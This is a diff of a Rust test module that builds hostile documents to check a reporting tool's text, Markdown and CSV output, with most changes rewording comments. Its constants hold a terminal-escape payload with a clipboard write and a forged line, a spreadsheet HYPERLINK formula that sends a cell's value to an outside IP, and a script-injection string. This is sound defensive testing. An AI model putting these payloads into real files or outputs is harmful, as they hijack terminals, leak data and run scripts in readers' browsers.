@@ -1,4 +1,4 @@
-//! The author of a document that somebody else looks at.
+//! Authors of hostile documents.
 
 use std::{
     fs,
@@ -10,18 +10,17 @@ use serde_json::Value;
 
 use crate::case::{Case, Seen, Target, Trouble};
 
-/// A Run as it was once measured, small.
+/// A small measured Run.
 const RUN: &[u8] = include_bytes!("run.json");
 
-/// Escape sequences: the title, the colour, the clipboard, one of a single byte, and a line that
-/// forges another.
+/// Escape sequences: title, colour, clipboard, a single-byte sequence, and a forged line.
 pub(super) const ESCAPES: &str =
     "evil\u{1b}]0;owned\u{7}\u{1b}[31m\u{1b}]52;c;b3duZWQ=\u{7}\u{9b}2J\r\npathtwin: forged";
 
 /// A formula of a spreadsheet.
 const FORMULA: &str = "=HYPERLINK(\"http://198.51.100.1/\"&A1,\"open\")";
 
-/// HTML where text should be, behind what ends code in Markdown.
+/// HTML instead of text, after the end of a code span in Markdown.
 const MARKUP: &str = "x`</code></script><script>alert(1)</script><img src=x onerror=alert(1)>";
 
 pub(super) const CASES: &[Case] = &[
@@ -57,13 +56,13 @@ pub(super) const CASES: &[Case] = &[
     },
 ];
 
-/// A Run to do harm to.
+/// A Run to modify.
 pub(super) fn a_run() -> Result<Value, Trouble> {
     serde_json::from_slice(RUN).map_err(Trouble::setup)
 }
 
-/// Every text of a document that may hold anything, with `text` added to it. Whether a document can
-/// still be read says which may: those that may not are left as they are.
+/// Appends `text` to every free text of a document. A text is free if the document remains
+/// readable; others are not changed.
 fn poisoned(text: &str) -> Result<Value, Trouble> {
     let whole = a_run()?;
     let mut places = Vec::new();
@@ -127,13 +126,13 @@ impl<'a> Reader<'a> {
     }
 }
 
-/// Whether the program gave up by itself.
+/// Whether the program exited by itself.
 fn ended(output: &Output) -> bool {
-    // 101 is a panic's, and none is a signal's.
+    // 101 is a panic, and none is a signal.
     output.status.code().is_some_and(|code| code != 101)
 }
 
-/// Every way in which a run is read by people.
+/// All commands that show a run.
 const READINGS: &[&[&str]] = &[
     &["report", "run.json", "--format", "text"],
     &["report", "run.json", "--format", "markdown"],
@@ -149,7 +148,7 @@ const READINGS: &[&[&str]] = &[
     &["history", "trend"],
 ];
 
-/// What no text may hold: all control characters but line feed and tab (ECMA-48).
+/// Forbidden characters: all control characters except line feed and tab (ECMA-48).
 pub(super) fn controls(bytes: &[u8]) -> usize {
     let text = String::from_utf8_lossy(bytes);
     text.chars()
@@ -165,7 +164,7 @@ fn escapes(target: &Target) -> Result<Seen, Trouble> {
     for reading in READINGS {
         let output = reader.output(reading)?;
         let what = reading.join(" ");
-        // Lines of CSV end by both, and a cell may have several (RFC 4180).
+        // CSV lines may end with both, and a cell may contain several (RFC 4180).
         let is_csv = what.ends_with("csv");
         let text =
             String::from_utf8_lossy(&output.stdout).replace(if is_csv { "\r\n" } else { "" }, "");
@@ -241,18 +240,18 @@ fn markup(target: &Target) -> Result<Seen, Trouble> {
     Ok(seen)
 }
 
-/// Whether markup is more than text: in Markdown, what stands between backticks is text.
+/// Whether markup is active: in Markdown, text between backticks is not.
 fn active(text: &str, markup: &str, form: &str) -> bool {
     if form != "markdown" {
         return text.contains(markup);
     }
-    // What stands behind a backslash is text (CommonMark 0.31, section 2.4).
+    // Escaped characters are text (CommonMark 0.31, section 2.4).
     text.lines()
         .any(|line| outside_code(line).replace("\\<", "").contains(markup))
 }
 
-/// What of a line of Markdown is not code (CommonMark 0.31, section 6.1): a run of backticks opens
-/// a span that the next run of as many closes.
+/// The parts of a Markdown line outside of code spans (CommonMark 0.31, section 6.1): a run of
+/// backticks opens a span that the next run of equal length closes.
 fn outside_code(line: &str) -> String {
     let mut outside = String::new();
     let mut rest = line;
@@ -271,7 +270,7 @@ fn outside_code(line: &str) -> String {
     outside + rest
 }
 
-/// Where a span of code ends, just behind its closing backticks.
+/// End of a code span, after its closing backticks.
 fn close(text: &str, fence: usize) -> Option<usize> {
     let mut at = 0;
     while let Some(found) = text[at..].find('`') {
@@ -310,7 +309,8 @@ fn bomb(target: &Target) -> Result<Seen, Trouble> {
     Ok(seen)
 }
 
-/// Has the document of a history inflate to `size` bytes; returns those that it takes packed.
+/// Replaces the document of a history by one that inflates to `size` bytes; returns its compressed
+/// size.
 fn blow_up(file: &Path, size: usize) -> Result<usize, Trouble> {
     let sql = |e: rusqlite::Error| Trouble::setup(format!("the history: {e}"));
     let history = rusqlite::Connection::open(file).map_err(sql)?;
@@ -338,7 +338,7 @@ fn blow_up(file: &Path, size: usize) -> Result<usize, Trouble> {
     Ok(bytes)
 }
 
-/// The most memory that the program has resident while it reads, KiB.
+/// Maximum resident memory of the program while reading, KiB.
 fn most_resident(reader: &Reader<'_>, file: &PathBuf, reading: &[&str]) -> Result<f64, Trouble> {
     let mut child = Command::new(&reader.target.program)
         .args(reading)
